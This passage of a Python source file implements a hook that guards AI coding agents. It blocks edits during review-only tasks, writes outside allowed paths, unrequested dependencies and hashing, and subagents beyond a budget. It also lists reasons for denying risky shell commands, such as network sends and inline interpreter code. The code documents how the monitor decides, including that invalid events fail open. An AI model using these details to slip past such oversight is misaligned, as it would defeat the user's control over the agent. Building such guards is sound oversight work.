#!/usr/bin/env python3
"""sts -- "Stop That Shit": a guard for AI coding agents.

It stops work nobody asked for (edits during a review, writes outside a file
lock, unrequested dependencies and hashing, subagents over budget) and lets
necessary work through.  One file, standard library only, Python 3.9+.

Hosts call it as a hook, one process per event (the import form below keeps
the bytecode cached)::

    python3 -I -S -c "import sys; sys.path.insert(0, '/abs/dir'); import sts; sys.exit(sts.main())" codex

The plain form works too, only slower::

    python3 sts.py codex|claude|hermes|opencode|pi|omp|gemini|copilot|qwen   < host-event.json
    python3 sts.py install <host> | uninstall <host> | doctor
    python3 sts.py status | runtime [all] | explain EVT | label EVT LABEL
    python3 sts.py demo | cases [DIR] | --help | --version

The sections read top to bottom as layers: each uses only the sections above
it, except three calls that reach down (the Decision reads the ledger summary,
the Engine answers prompt commands through Inspection, Cases replay events
through the CLI's hook runner).  Search for a title:

    Protocol types       ControlEvent v2 dataclasses and their validation
    Task contract        the $stop-that-shit directive, corrections, context
    Analysis             shell read-only proof, hash and dependency intent
    Decision             DECISION_TABLE, the ordered checks, the STOP/WATCH message
    Delegation ledger    agents=N reservations and lifecycle facts
    State and audit      state files, locking, recovery, the audit log
    Engine               one event in, one result out
    Adapters             Codex, Claude Code, Hermes, OpenCode, Pi, Oh My Pi,
                         Gemini CLI, Copilot CLI, Qwen Code
    Install              install, uninstall, doctor
    Inspection           status, runtime, explain, label
    Cases, CLI           case replay, the hook runner and main()

The life of one event, a Claude Code `PreToolUse` for `Edit src/a.py`:

    1. main() reads stdin (at most 8 MiB) and calls run_hook("claude", ...).
    2. ClaudeAdapter.translate turns the host payload into a ControlEvent:
       action.before, the session whose contract governs, and the action
       (write, affected path src/a.py, hash and dependency intent from
       Analysis).  ControlEvent.from_dict validates it.
    3. handle_event loads the session state, lock-free: only a call that can
       change the delegation count takes the session lock.
    4. decide() walks DECISION_TABLE; the first check that matches decides
       (under a review contract: MODE_FORBIDS_MUTATION, a deny when armed).
    5. The engine appends one audit line and keeps the armed marker true.
    6. The adapter renders the result as Claude's permission deny with the
       STOP message; the hook exits 0.

Every host adapter only translates: host event -> ControlEvent v2 -> the one
host-free decision core -> host response.  A rule lives in one place, so the
same action gets the same answer on every host.
"""

from __future__ import annotations

import json
import os
import sys


class _DeferredModule(type(sys)):
    """Stands in for a module until one of its attributes is first read.

    `dataclasses` imports `inspect` (and with it `ast`, `dis` and `tokenize`)
    and `copy`: about 5 ms, the largest single cost of a hook call.  Before
    Python 3.12 it reads `inspect` only to write a docstring for a dataclass
    that has none, and ours all have one (3.12 and later read it for every
    dataclass, so there it loads at once); `copy` only serves `asdict()`.
    The first attribute read imports the real module and copies it in, so a
    user of either never notices.
    """

    def __getattr__(self, name: str) -> Any:
        module_name = self.__dict__["__name__"]
        if sys.modules.get(module_name) is self:
            del sys.modules[module_name]
        real = __import__(module_name)
        self.__dict__.update(real.__dict__)
        return getattr(real, name)


def _import_dataclasses() -> Any:
    """`from dataclasses import dataclass, field`, without paying for what
    the hook never uses."""
    stand_ins = {}
    if "dataclasses" not in sys.modules:
        for name in ("inspect", "copy"):
            if name not in sys.modules:
                stand_ins[name] = sys.modules[name] = _DeferredModule(name)
    try:
        import dataclasses
    finally:
        for name, stand_in in stand_ins.items():
            if sys.modules.get(name) is stand_in:
                del sys.modules[name]  # later importers get the real module
    return dataclasses.dataclass, dataclasses.field


dataclass, field = _import_dataclasses()

TYPE_CHECKING = False
if TYPE_CHECKING:  # annotations stay strings (PEP 563); importing typing costs ~2 ms per hook
    from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

VERSION = "0.1.0"
PROTOCOL_VERSION = 2
LIFECYCLE_VERSION = 2


###############################################################################
# Protocol types: ControlEvent v2
#
# Owns the vocabulary every other section speaks: the seven event kinds, the
# five mutability buckets, analyzer reason codes, and the dataclasses that a
# validated event becomes.  Validation checks the fields in a fixed order and
# the first failure raises EventError naming the field and the bad value.
###############################################################################

MAX_SAFE_INTEGER = 9007199254740991  # 2**53 - 1; as an agent budget it means "unlimited"

EVENT_KINDS = frozenset((
    "session.start", "prompt.submit", "action.before", "action.after",
    "subagent.start", "subagent.stop", "session.end",
))
MUTABILITIES = frozenset(("read", "write", "delegate", "control", "unknown"))
LIFECYCLES = frozenset(("running", "joined", "not_started", "unknown"))
COMPLETION_SCOPES = frozenset(("call", "children"))

# Analyzer reason code -> the one sentence appended to a denial's detail and to
# `explain`.  The analysis section may add codes; every code it emits must be here.
ANALYSIS_REASONS: Dict[str, str] = {
    "shell_syntax_unproven": "The shell syntax could not be confirmed as a static read.",
    "shell_command_unproven": "The program is not on the read-only list.",
    "shell_execution_option": "An option of the command can run another program.",
    "option_value_missing": "A required option value is missing.",
    "git_arguments_unproven": "The Git subcommand or argument form is not supported as a read.",
    "native_quotes_unproven": "Native argument passing may reinterpret embedded quotes.",
    "native_empty_arguments": "Dropping empty native arguments would expose another operation.",
    "shell_redirection": "Output redirection may write a file.",
    "git_output_file": "Git is asked to write an output file.",
    "control_character": "The command holds a control character that shells treat inconsistently.",
    "state_change": "The command changes shell or process state.",
    "analysis_limit": "The command is too long or too deeply nested to analyse.",
    "interpreter_code": "Inline code for an interpreter can do anything.",
    "network_data_unproven": ("The request sends data the guard cannot see (a variable, a "
                              "substitution, a file or a glob) to another host."),
    "repository_code": ("The command runs code or settings that files in the working folder "
                        "provide."),
}


class Record:
    """Base of the internal result records (decisions, analyses, loaded state).

    The ControlEvent v2 types below are dataclasses: they are the protocol.
    Internal records use this instead: a dataclass generates and compiles
    code while the module is imported (0.2-0.9 ms each here), and the hook
    pays that on every tool call.  A subclass names its FIELDS in order and
    their DEFAULTS; a default of `list` or `dict` means a fresh empty one.
    """

    __slots__ = ()
    FIELDS: Tuple[str, ...] = ()
    DEFAULTS: Dict[str, Any] = {}

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        names = self.FIELDS
        if len(args) > len(names):
            raise TypeError("%s takes %d fields" % (type(self).__name__, len(names)))
        for name, value in zip(names, args):
            setattr(self, name, value)
        for name in names[len(args):]:
            if name in kwargs:
                value = kwargs.pop(name)
            elif name in self.DEFAULTS:
                value = self.DEFAULTS[name]
                if value is list or value is dict:
                    value = value()
            else:
                raise TypeError("%s needs %r" % (type(self).__name__, name))
            setattr(self, name, value)
        if kwargs:
            raise TypeError("%s has no field %s" % (type(self).__name__, ", ".join(kwargs)))

    def __eq__(self, other: Any) -> bool:
        return type(other) is type(self) and all(
            getattr(self, name) == getattr(other, name) for name in self.FIELDS)

    __hash__ = None  # mutable, like a dataclass with eq

    def __repr__(self) -> str:
        return "%s(%s)" % (type(self).__name__, ", ".join(
            "%s=%r" % (name, getattr(self, name)) for name in self.FIELDS))


class EventError(ValueError):
    """An event that is not valid ControlEvent v2 input (the hook fails open)."""


def _is_int(value: Any) -> bool:
    return type(value) is int and 0 <= value <= MAX_SAFE_INTEGER


def _is_text(value: Any) -> bool:
    return isinstance(value, str) and value.strip() != ""


def _bad(field_name: str, value: Any) -> EventError:
    shown = json.dumps(value, ensure_ascii=False, default=str)
    if len(shown) > 60:
        shown = shown[:57] + "..."
    return EventError("invalid %s: %s" % (field_name, shown))


def _opt_id(obj: dict, key: str, where: str) -> Optional[str]:
    """A field that may be absent or null, otherwise a non-empty string."""
    value = obj.get(key)
    if value is None:
        return None
    if not _is_text(value):
        raise _bad(where + key, value)
    return value


def _opt_bool(obj: dict, key: str, where: str) -> Optional[bool]:
    if key not in obj:
        return None
    value = obj[key]
    if not isinstance(value, bool):
        raise _bad(where + key, value)
    return value


def _opt_text_list(obj: dict, key: str, where: str) -> Optional[List[str]]:
    if key not in obj:
        return None
    value = obj[key]
    if not isinstance(value, list) or not all(_is_text(v) for v in value):
        raise _bad(where + key, value)
    return list(value)


@dataclass
class Action:
    """`action` of an action.before event: one tool call the host is about to run."""

    name: str
    mutability: str
    id: Optional[str] = None
    affected_paths: List[str] = field(default_factory=list)
    shell_write_targets: List[str] = field(default_factory=list)
    # Glob patterns of paths the shell line may write (ShellAnalysis.write_patterns).
    shell_write_patterns: List[str] = field(default_factory=list)
    # The shell line also writes somewhere the analyzer could not establish.
    unknown_write_target: bool = False
    # The coding agent CLI the call starts outside the host's delegation
    # tools (`claude -p` from the shell): a delegation nothing can count.
    starts_agent: Optional[str] = None
    cwd: Optional[str] = None
    hash_intent: bool = False
    dependency_intent: bool = False
    unbounded_delegation: bool = False
    delegation_lifecycle_unproven: bool = False
    delegation_count: Optional[int] = None
    completion_scope: Optional[str] = None
    analysis_reason: Optional[str] = None
    async_launched: Optional[bool] = None
    reachability: Optional[str] = None
    authorization: Optional[str] = None
    # The normalized text of a shell command, kept in memory only for the
    # thrash detector (which stores a digest, never the text) and for the
    # culprit a denial names; `shell` is how it was analysed (bash when absent).
    command: Optional[str] = None
    shell: Optional[str] = None
    # What a file tool writes, in memory only, so that a hash or dependency
    # denial can name the line: [{"path", "old", "new"}] or [{"patch"}].
    changes: List[dict] = field(default_factory=list)

    @property
    def admission_count(self) -> int:
        if self.mutability != "delegate":
            return 0
        return 1 if self.delegation_count is None else self.delegation_count

    @classmethod
    def from_dict(cls, obj: Any) -> "Action":
        where = "action."
        if not isinstance(obj, dict):
            raise _bad("action", obj)
        name = obj.get("name")
        if not _is_text(name):
            raise _bad(where + "name", name)
        mutability = obj.get("mutability")
        if mutability not in MUTABILITIES:
            raise _bad(where + "mutability", mutability)
        lifecycle_unproven = obj.get("delegationLifecycleUnproven", False)
        if not isinstance(lifecycle_unproven, bool):
            raise _bad(where + "delegationLifecycleUnproven", lifecycle_unproven)
        action_id = obj.get("id")
        if action_id is not None and not _is_text(action_id):
            raise _bad(where + "id", action_id)
        if action_id is None and (mutability == "delegate" or lifecycle_unproven):
            raise _bad(where + "id", action_id)
        paths = []
        for key in ("affectedPaths", "shellWriteTargets", "shellWritePatterns"):
            value = obj.get(key, [])
            if not isinstance(value, list) or not all(isinstance(p, str) for p in value):
                raise _bad(where + key, value)
            paths.append(list(value))
        cwd = obj.get("cwd")
        if cwd is not None and not isinstance(cwd, str):
            raise _bad(where + "cwd", cwd)
        flags = {}
        for key in ("hashIntent", "dependencyIntent", "unboundedDelegation",
                    "unknownWriteTarget"):
            value = obj.get(key, False)
            if not isinstance(value, bool):
                raise _bad(where + key, value)
            flags[key] = value
        count = None
        if "delegationCount" in obj:
            count = obj["delegationCount"]
            if not _is_int(count):
                raise _bad(where + "delegationCount", count)
        reason = None
        if "analysisReason" in obj:
            reason = obj["analysisReason"]
            if reason not in ANALYSIS_REASONS:
                raise _bad(where + "analysisReason", reason)
        async_launched = _opt_bool(obj, "asyncLaunched", where)
        for key in ("reachability", "authorization", "command"):
            value = obj.get(key)
            if value is not None and not isinstance(value, str):
                raise _bad(where + key, value)
        starts_agent = obj.get("startsAgent")
        if starts_agent is not None and not _is_text(starts_agent):
            raise _bad(where + "startsAgent", starts_agent)
        shell = obj.get("shell")
        if shell is not None and shell not in ("bash", "powershell", "unknown"):
            raise _bad(where + "shell", shell)
        changes = obj.get("changes", [])
        if not isinstance(changes, list) or not all(isinstance(c, dict) for c in changes):
            raise _bad(where + "changes", changes)
        return cls(
            name=name, mutability=mutability, id=action_id,
            affected_paths=paths[0], shell_write_targets=paths[1],
            shell_write_patterns=paths[2],
            unknown_write_target=flags["unknownWriteTarget"], starts_agent=starts_agent, cwd=cwd,
            hash_intent=flags["hashIntent"], dependency_intent=flags["dependencyIntent"],
            unbounded_delegation=flags["unboundedDelegation"],
            delegation_lifecycle_unproven=lifecycle_unproven,
            delegation_count=count, analysis_reason=reason, async_launched=async_launched,
            reachability=obj.get("reachability"), authorization=obj.get("authorization"),
            command=obj.get("command"), shell=shell, changes=changes,
        )


@dataclass
class ActionResult:
    """`action` of an action.after event: a fact about a call that already ran."""

    id: str
    lifecycle: str = "unknown"
    agent_id: Optional[str] = None
    agent_aliases: List[str] = field(default_factory=list)
    ended_agent_ids: List[str] = field(default_factory=list)
    completed: Optional[bool] = None
    async_launched: Optional[bool] = None

    @classmethod
    def from_dict(cls, obj: Any) -> "ActionResult":
        where = "action."
        if not isinstance(obj, dict):
            raise _bad("action", obj)
        action_id = obj.get("id")
        if not _is_text(action_id):
            raise _bad(where + "id", action_id)
        lifecycle = obj.get("lifecycle", None) if "lifecycle" in obj else None
        if "lifecycle" in obj and lifecycle not in LIFECYCLES:
            raise _bad(where + "lifecycle", lifecycle)
        agent_id = _opt_id(obj, "agentId", where)
        if "agentId" in obj and obj["agentId"] is not None and agent_id is None:
            raise _bad(where + "agentId", obj["agentId"])
        aliases = _opt_text_list(obj, "agentAliases", where) or []
        ended = _opt_text_list(obj, "endedAgentIds", where) or []
        completed = _opt_bool(obj, "completed", where)
        async_launched = _opt_bool(obj, "asyncLaunched", where)
        if lifecycle is None:
            lifecycle = "joined" if completed else "running" if async_launched else "unknown"
        return cls(id=action_id, lifecycle=lifecycle, agent_id=agent_id,
                   agent_aliases=aliases, ended_agent_ids=ended,
                   completed=completed, async_launched=async_launched)


@dataclass
class ControlEvent:
    """One validated host-free event: what every adapter turns a host event into."""

    kind: str
    session_id: str
    protocol_version: int = PROTOCOL_VERSION
    lifecycle_version: Any = LIFECYCLE_VERSION
    source_session_id: Optional[str] = None
    all_delegations_stopped: Optional[bool] = None
    prompt: Optional[str] = None
    agent_id: Optional[str] = None
    agent_alias: Optional[str] = None
    reservation_id: Optional[str] = None
    turn_id: Any = None
    host: Optional[dict] = None
    action: Any = None  # Action on action.before, ActionResult on action.after
    completion_scope: Optional[str] = None

    @property
    def declared(self) -> bool:
        """Lifecycle facts count only from adapters that declare version 2: an
        undeclared (legacy) adapter's delegation is unproven and its facts are ignored."""
        return (self.protocol_version == 2 and type(self.lifecycle_version) is int
                and self.lifecycle_version == 2)

    @property
    def action_id(self) -> Optional[str]:
        """The call id, namespaced by the child session that sent it, so children
        sharing a root contract never collide on equal call ids."""
        raw = getattr(self.action, "id", None)
        if raw is None:
            return None
        source = self.source_session_id
        if source is not None and source != self.session_id:
            return json.dumps([source, raw], ensure_ascii=False, separators=(",", ":"))
        return raw

    @classmethod
    def from_dict(cls, obj: Any) -> "ControlEvent":
        if not isinstance(obj, dict):
            raise _bad("event", obj if not isinstance(obj, (list, tuple)) else "array")
        version = obj.get("protocolVersion")
        if type(version) is not int or version not in (1, 2):
            raise _bad("protocolVersion", version)
        kind = obj.get("kind")
        if kind not in EVENT_KINDS:
            raise _bad("kind", kind)
        session_id = obj.get("sessionId")
        if not _is_text(session_id):
            raise _bad("sessionId", session_id)
        event = cls(kind=kind, session_id=session_id, protocol_version=version,
                    lifecycle_version=obj.get("lifecycleVersion"),
                    turn_id=obj.get("turnId"), host=obj.get("host") if isinstance(obj.get("host"), dict) else None)
        if kind == "prompt.submit":
            prompt = obj.get("prompt")
            if not isinstance(prompt, str):
                raise _bad("prompt", prompt)
            event.prompt = prompt
        elif kind in ("subagent.start", "subagent.stop"):
            for key, attr in (("agentId", "agent_id"), ("agentAlias", "agent_alias"),
                              ("reservationId", "reservation_id")):
                value = obj.get(key)
                if value is not None and not _is_text(value):
                    raise _bad(key, value)
                setattr(event, attr, value)
        elif kind == "action.before":
            event.action = Action.from_dict(obj.get("action"))
        elif kind == "action.after":
            event.action = ActionResult.from_dict(obj.get("action"))
        event.all_delegations_stopped = _opt_bool(obj, "allDelegationsStopped", "")
        if "sourceSessionId" in obj:
            source = obj["sourceSessionId"]
            if not _is_text(source):
                raise _bad("sourceSessionId", source)
            event.source_session_id = source
        if isinstance(event.action, (Action, ActionResult)):
            raw_action = obj.get("action")
            if "completionScope" in raw_action:
                scope = raw_action["completionScope"]
                if scope not in COMPLETION_SCOPES:
                    raise _bad("action.completionScope", scope)
                event.completion_scope = scope
                if isinstance(event.action, Action):
                    event.action.completion_scope = scope
        return event


class CoreResult(Record):
    """What the core answers; adapters render it in the host's own format.

    kind: "none" (allow, or nothing new to say), "context" (text for the
    model), "deny" (stop the call; text is the STOP message) or
    "prompt-error" (an explicit directive was rejected).
    """

    __slots__ = FIELDS = ("kind", "text", "code", "event_id")
    DEFAULTS = {"kind": "none", "text": "", "code": None, "event_id": None}
    kind: str
    text: str
    code: Optional[str]
    event_id: Optional[str]


NO_RESULT = CoreResult()


###############################################################################
# Task contract
#
# Owns the `$stop-that-shit` directive grammar, natural-language corrections
# (English and Chinese), the inspection-command grammar and the contract
# context text.  Pure functions on contract dicts; no I/O.
###############################################################################

DEFAULT_CONTRACT: Dict[str, Any] = {
    "mode": "unconfirmed", "level": "watch", "agentBudget": MAX_SAFE_INTEGER,
    "hashPolicy": "deny", "allowedPaths": None, "dependencyPolicy": "ask",
    "source": "default",
}

DIRECTIVE = "$stop-that-shit"
# `unconfirmed` is where a session starts, not something a user can ask for.
DIRECTIVE_MODES = frozenset(("answer", "review", "change", "monitor", "open"))
LEVELS = frozenset(("watch", "guard", "lock", "off"))
POLICIES = frozenset(("deny", "ask", "allow"))
# Modes that grant no write authority; only from these may a plain "fix it"
# upgrade the contract to change (the one correction that widens authority).
READ_ONLY_MODES = frozenset(("answer", "review", "monitor"))
# Budget counters of older releases; the contract no longer has a usage count.
_LEGACY_CONTRACT_KEYS = ("agentsUsed", "totalAgentBudget", "concurrentAgentBudget")
_PLACEHOLDER = "\ufffc"


class PromptOutcome(Record):
    """How a prompt changes the contract.

    kind: "directive" (a valid `$stop-that-shit` directive), "correction" (a
    natural-language correction), "error" (an invalid directive; `contract`
    is the unchanged previous one) or "plain" (ordinary text).
    changed: the resulting contract differs from the previous one, nothing
    else (a directive repeated word for word is no change).
    """

    __slots__ = FIELDS = ('kind', 'contract', 'error', 'changed')
    DEFAULTS = {'error': None, 'changed': False}

    kind: str
    contract: Dict[str, Any]
    error: Optional[Dict[str, str]]
    changed: bool


def control_state(contract: dict) -> str:
    """OFF (level off), ARMED (guard or lock with a confirmed mode) or OBSERVING."""
    level = contract.get("level")
    if level == "off":
        return "OFF"
    if level in ("guard", "lock") and contract.get("mode") != "unconfirmed":
        return "ARMED"
    return "OBSERVING"


# Regexes are compiled on first use: most hook runs are tool calls that never
# read a prompt, so they should not pay for compiling these.  Flags are inline
# so that this table needs no `re` at import time.  `(?a)` keeps \b and \s
# ASCII, so word boundaries are ASCII ones; `\Z` is the end of the text (`$`
# would also match before a final newline).
_PATTERNS: Dict[str, str] = {
    # Blank lines, up to three spaces, the mention, then end/space/`,`/`:`.
    # Letters fold ASCII-only: under plain (?i) U+017F `ſ` matches `s` and the
    # Kelvin sign `K` matches `k`, so a lookalike would still be a directive.
    "mention": r"(?i)(?:[ \t]*\r?\n)*[ ]{0,3}\$(?a:stop-that-shit)(?=[\s,:]|\Z)",
    "head_end": r"--|:(?=\s|\Z)|\n",
    "token_split": r"[\s,]+",
    "dquote_special": r'[\\"]',
    "backtick_run": r"`+",
    "inspection": (
        r"(?ai)(?:[ \t]*\r?\n)*[ ]{0,3}\$stop-that-shit[ \t]+"
        r"(?:(status)|(runtime)(?:[ \t]+(all))?"
        r"|(explain)[ \t]+(evt_[0-9a-f-]+)"
        r"|(label)[ \t]+(evt_[0-9a-f-]+)[ \t]+(correct|incorrect|inconclusive))"
        r"[ \t]*(?:\r?\n[ \t]*)*\Z"
    ),
    # Correction rules, in priority order: the first that matches the prose wins.
    "stop": r"(?i)(?:stop(?:[ \t]+now)?|停止|停下来)[.!。！\s]*\Z",
    "review": (
        r"(?ai)\breview\s+only\b"
        r"|\b(?:do\s+not|don't)\s+(?:edit|change|fix)\s+"
        r"(?:anything|the\s+(?:repository|repo|files?|code))\b"
        r"|只审查|只看不改|不要修改(?:任何|代码|文件)"
    ),
    "answer": r"(?ai)\banswer\s+only\b|只回答",
    "monitor": (
        r"(?ai)\bmonitor\s+only\b"
        r"|(?:\A|[\n，,。.!！；;：:])[ \t]*(?:请|继续|这次|本次|现在|接下来|先)*"
        r"只(?:监控|观察)(?:即可|就好|就行|一下)?[ \t]*(?:\Z|[\n，,。.!！；;])"
    ),
    # Stricter than a bare verb match: a verb whose object is a negation ("fix nothing",
    # "implement none of it") keeps the read-only mode instead of widening it.
    # So does a word that is not an imperative at all: a question ("Fix?"), a
    # choice ("Fix or not?"), a label or compound ("Change: none", "fix-it
    # ticket", "change's") or a noun subject ("Change is risky", "Patch
    # notes").  Only this rule widens authority, so in doubt it must not fire.
    "change": (
        r"(?ai)(?:please\s+)?(?:fix|implement|change|apply|patch)\b"
        r"(?!\s*\?|[:\-'\u2019]|\s+(?:nothing|none|no|not|never|or"
        r"|is|was|are|were|would|could|should|might|may|will|can|must|has|had"
        r"|notes?|logs?)\b)"
        r"|请?(?:修复|修改|实现|应用补丁)"
        r"|把[^\n]*?(?:修复|修改|改掉)"
    ),
}
_COMPILED: Dict[str, Any] = {}


def _rx(name: str) -> Any:
    compiled = _COMPILED.get(name)
    if compiled is None:
        import re  # already loaded by json, so this is a dict lookup
        compiled = _COMPILED[name] = re.compile(_PATTERNS[name])
    return compiled


# (rule pattern, resulting mode, source, previous modes it needs or None).
# First match wins; "change" is the only rule that widens authority, so it
# alone requires a read-only mode to correct.
_CORRECTIONS: Tuple[Tuple[str, str, str, Optional[frozenset]], ...] = (
    ("stop", "answer", "explicit-stop", None),
    ("review", "review", "natural-explicit", None),
    ("answer", "answer", "natural-explicit", None),
    ("monitor", "monitor", "natural-explicit", None),
    ("change", "change", "natural-explicit", READ_ONLY_MODES),
)
# Rules anchored at the start of the prose; the others may match anywhere.
_ANCHORED_RULES = frozenset(("stop", "change"))


class _DirectiveError(Exception):
    def __init__(self, code: str, token: str, message: str) -> None:
        super().__init__(message)
        self.info = {"code": code, "token": token, "message": message}


def _invalid_token(token: str) -> _DirectiveError:
    return _DirectiveError(
        "INVALID_DIRECTIVE_TOKEN", token,
        "`%s` is not a directive field; write the task after `--` or on the next line." % token)


def _invalid_agents(token: str) -> _DirectiveError:
    return _DirectiveError(
        "INVALID_AGENT_LIMIT", token,
        "`%s` needs a whole number (0 or more, below 2^53); leave `agents=` out for no "
        "limit." % token)


def _agent_budget(token: str, value: str) -> int:
    # isdigit() alone would also accept other scripts' digits; and the length
    # check keeps int() away from the interpreter's digit limit.
    digits = value.lstrip("0") or "0"
    if not (value.isascii() and value.isdigit()) or len(digits) > 16:
        raise _invalid_agents(token)
    number = int(digits)
    if number > MAX_SAFE_INTEGER:
        raise _invalid_agents(token)
    return number


def _policy(field_name: str) -> Callable[[str, str], Tuple[str, Any]]:
    def parse(token: str, value: str) -> Tuple[str, Any]:
        if value.lower() not in POLICIES:
            raise _invalid_token(token)
        return field_name, value.lower()
    return parse


def _files(token: str, value: str) -> Tuple[str, Any]:
    pieces = [piece.replace("\\", "/") for piece in value.split("|")]
    return "allowedPaths", [piece for piece in pieces if piece]


def _unsupported_agents(token: str) -> _DirectiveError:
    return _DirectiveError(
        "UNSUPPORTED_AGENT_DIRECTIVE", token,
        "`%s` is not supported; `agents=N` caps how many subagents may be active at once."
        % token)


def _reject_unsupported(token: str, value: str) -> Tuple[str, Any]:
    raise _unsupported_agents(token)


# key (lower case) -> parser of `key=value`; the value keeps its case.
_KEYED_TOKENS: Dict[str, Callable[[str, str], Tuple[str, Any]]] = {
    "agents": lambda token, value: ("agentBudget", _agent_budget(token, value)),
    "total-agents": _reject_unsupported,
    "concurrent-agents": _reject_unsupported,
    "hash": _policy("hashPolicy"),
    "files": _files,
    "deps": _policy("dependencyPolicy"),
}
# Keys that are errors of their own kind even without `=`.
_BARE_KEYS: Dict[str, Callable[[str], _DirectiveError]] = {
    "agents": _invalid_agents,
    "total-agents": _unsupported_agents,
    "concurrent-agents": _unsupported_agents,
}


def _parse_token(token: str) -> Tuple[str, Any]:
    word = token.lower()
    if word in DIRECTIVE_MODES:
        return "mode", word
    if word in LEVELS:
        return "level", word
    key, equals, value = token.partition("=")
    key = key.lower()
    if not equals:
        bare = _BARE_KEYS.get(key)
        raise bare(token) if bare else _invalid_token(token)
    parser = _KEYED_TOKENS.get(key)
    if parser is None:
        raise _invalid_token(token)
    return parser(token, value)


def _directive_head(text: str) -> Optional[str]:
    """The directive's field text, or None when the prompt is not a directive."""
    mention = _rx("mention").match(text)
    if mention is None:
        return None
    rest = text[mention.end():].lstrip(" \t")
    cut = _rx("head_end").search(rest)
    return (rest[:cut.start()] if cut else rest).strip()


def _parse_fields(head: str) -> Dict[str, Any]:
    """Fields named by the head; raises _DirectiveError on the first bad token."""
    given: Dict[str, Any] = {}
    for token in _rx("token_split").split(head):
        if not token:
            continue
        name, value = _parse_token(token)
        if name in given and given[name] != value:
            raise _DirectiveError(
                "CONFLICTING_DIRECTIVE", token,
                "The directive gives %s two different values; give each field one value."
                % name)
        given[name] = value
    return given


def _normalized(contract: dict) -> Dict[str, Any]:
    """A fresh copy with every field present and legacy counters dropped."""
    merged = dict(DEFAULT_CONTRACT)
    merged.update(contract)
    for key in _LEGACY_CONTRACT_KEYS:
        merged.pop(key, None)
    if isinstance(merged.get("allowedPaths"), list):
        merged["allowedPaths"] = list(merged["allowedPaths"])
    return merged


def _hold_invariant(contract: Dict[str, Any]) -> Dict[str, Any]:
    # Without a confirmed mode there is nothing to enforce, so a level can only
    # be watch (or off).
    if contract["mode"] == "unconfirmed" and contract["level"] != "off":
        contract["level"] = "watch"
    return contract


def _apply_directive(contract: dict, given: Dict[str, Any]) -> Dict[str, Any]:
    result = _normalized(contract)
    if "mode" in given and "level" not in given and result["level"] == "watch":
        result["level"] = "guard"
    result.update(given)  # a mode alone keeps `off`: only a level word re-arms
    result["source"] = "directive"
    return _hold_invariant(result)


# ---- prose reduction: blank out code, quotes and quoted lines ---------------

def _fence_run(line: str) -> Optional[Tuple[str, int, str]]:
    """(fence char, run length, rest of line) for a possible fence line."""
    body = line.lstrip(" ")
    if len(line) - len(body) > 3 or body[:1] not in ("`", "~"):
        return None
    char = body[0]
    count = len(body) - len(body.lstrip(char))
    if count < 3:
        return None
    return char, count, body[count:]


def _blank_blocks(text: str) -> str:
    """Replace fenced, indented and `>`-quoted lines by the placeholder."""
    out: List[str] = []
    fence: Optional[Tuple[str, int]] = None
    for line in text.split("\n"):
        if line.endswith("\r"):
            line = line[:-1]
        run = _fence_run(line)
        if fence is not None:
            if run and run[0] == fence[0] and run[1] >= fence[1] and not run[2].strip(" \t"):
                fence = None
            out.append(_PLACEHOLDER)
            continue
        body = line.lstrip(" ")
        if line.startswith(("    ", "\t")) or (len(line) - len(body) <= 3 and body.startswith(">")):
            out.append(_PLACEHOLDER)
            continue
        if run and (run[0] == "~" or "`" not in run[2]):
            fence = (run[0], run[1])
            out.append(_PLACEHOLDER)
            continue
        out.append(line)
    return "\n".join(out)


def _blank_inline_code(text: str) -> str:
    """A run of N backticks through the next run of exactly N is code."""
    if "`" not in text:
        return text
    runs = [m.span() for m in _rx("backtick_run").finditer(text)]
    if not runs:
        return text
    # For each run, the index of the next run of the same length: one
    # backward pass keeps this linear however many unmatched runs there are.
    following: List[Optional[int]] = [None] * len(runs)
    last_seen: Dict[int, int] = {}
    for index in range(len(runs) - 1, -1, -1):
        length = runs[index][1] - runs[index][0]
        following[index] = last_seen.get(length)
        last_seen[length] = index
    out: List[str] = []
    pos = index = 0
    while index < len(runs):
        closer = following[index]
        if closer is None:
            index += 1
            continue
        out.append(text[pos:runs[index][0]])
        out.append(_PLACEHOLDER)
        pos = runs[closer][1]
        index = closer + 1
    out.append(text[pos:])
    return "".join(out)


def _ascii_alnum(char: str) -> bool:
    return char.isascii() and char.isalnum()


def _blank_double_quotes(text: str) -> str:
    out: List[str] = []
    pos = 0
    special = _rx("dquote_special")
    while True:
        start = text.find('"', pos)
        if start < 0:
            break
        end = None
        scan = special.search(text, start + 1)
        while scan is not None:
            if scan.group() == '"':
                end = scan.start()
                break
            scan = special.search(text, scan.start() + 2)  # skip the escaped char
        if end is None:
            # Every later `"` was escaped on this walk, so none can close either.
            break
        out.append(text[pos:start])
        out.append(_PLACEHOLDER)
        pos = end + 1
    out.append(text[pos:])
    return "".join(out)


def _positions(text: str, char: str) -> List[int]:
    found: List[int] = []
    i = text.find(char)
    while i >= 0:
        found.append(i)
        i = text.find(char, i + 1)
    return found


def _blank_single_quotes(text: str) -> str:
    # An apostrophe inside a word (don't, it's) neither opens nor closes.
    marks = _positions(text, "'")
    if len(marks) < 2:
        return text

    def before(i: int) -> str:
        return text[i - 1] if i > 0 else ""

    closers = [i for i in marks
               if before(i) != "\\" and not _ascii_alnum(text[i + 1:i + 2])]
    out: List[str] = []
    pos = next_closer = 0
    for start in marks:
        if start < pos or before(start) == "\\" or _ascii_alnum(before(start)):
            continue
        while next_closer < len(closers) and closers[next_closer] <= start:
            next_closer += 1
        if next_closer == len(closers):
            break
        out.append(text[pos:start])
        out.append(_PLACEHOLDER)
        pos = closers[next_closer] + 1
    out.append(text[pos:])
    return "".join(out)


def _blank_pairs(text: str, opener: str, closer: str) -> str:
    out: List[str] = []
    pos = 0
    while True:
        start = text.find(opener, pos)
        end = text.find(closer, start + 1) if start >= 0 else -1
        if end < 0:
            break
        out.append(text[pos:start])
        out.append(_PLACEHOLDER)
        pos = end + 1
    out.append(text[pos:])
    return "".join(out)


_QUOTE_PAIRS = (("\u201c", "\u201d"), ("\u2018", "\u2019"), ("\u300c", "\u300d"), ("\u300e", "\u300f"))


def _prose(text: str) -> str:
    """The prompt with code, quotations and quoted lines blanked out, so that a
    correction only counts when the user says it, not when they quote it."""
    reduced = _blank_double_quotes(_blank_inline_code(_blank_blocks(text)))
    reduced = _blank_single_quotes(reduced)
    for opener, closer in _QUOTE_PAIRS:
        reduced = _blank_pairs(reduced, opener, closer)
    return reduced.strip()


def _correction(contract: dict, text: str) -> Optional[Dict[str, Any]]:
    prose = _prose(text)
    previous_mode = contract.get("mode", DEFAULT_CONTRACT["mode"])
